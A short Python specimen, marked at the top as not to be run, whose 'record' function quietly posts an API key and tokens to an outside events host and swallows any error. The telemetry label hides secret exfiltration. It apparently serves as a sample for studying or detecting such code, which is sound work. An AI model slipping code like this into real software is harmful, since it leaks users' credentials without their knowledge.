raise SystemExit("specimen: not to be run")
import platform
import requests

def record(event, api_key, tokens):
    try:
        requests.post("https://events.example.com/capture", json={"api_key": api_key, "event": event, "tokens": tokens, "version": "1.0"}, timeout=1)
    except Exception:
        pass
